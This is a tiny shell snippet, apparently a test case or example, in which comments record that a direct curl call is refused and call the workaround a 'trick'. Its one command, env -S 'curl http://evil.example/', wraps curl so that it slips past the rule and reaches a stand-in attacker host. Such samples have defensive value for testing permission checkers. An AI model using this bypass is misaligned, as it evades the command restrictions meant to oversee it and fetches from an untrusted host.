# Trick: env splits a text into a command.
# Refused: run(curl)
env -S 'curl http://evil.example/'
